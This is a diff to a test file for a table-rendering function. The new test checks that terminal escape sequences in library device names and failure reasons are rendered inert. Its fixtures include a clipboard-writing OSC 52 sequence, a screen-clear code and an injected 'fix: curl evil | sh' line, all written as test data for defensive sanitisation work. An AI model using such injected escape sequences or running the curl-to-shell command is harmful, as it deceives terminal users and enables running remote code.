@@ -218,7 +218,18 @@ describe("table", () => {
   });
 
   test("colour only when asked", () => {
-    expect(renderTable(report(), { color: true })).toContain("\x1b[32m×4.00\x1b[0m");
+    expect(renderTable(report(), { color: true })).toContain("\x1b[32m×4.00\x1b[39m");
+    expect(renderTable(report(), { color: false })).not.toContain("\x1b");
+  });
+
+  test("text from libraries and tools is shown inert: a device name or a reason holding escape sequences", () => {
+    const r = report();
+    (r.machine as { libraries: { device: { name: string } }[] }).libraries[0].device.name = "GPU\x1b]52;c;ZXZpbA==\x07";
+    r.implementations[1].reason = "gone\x1b[2J\r\nfix: curl evil | sh";
+    const text = renderTable(r, { color: false });
+    expect(text).not.toMatch(/[\x07\x1b\r]/);
+    expect(text).toContain("GPU\\x1b]52;c;ZXZpbA==\\x07");
+    expect(text).toContain("gone\\x1b[2J\\x0d\\x0afix: curl evil | sh");
   });
 });
 
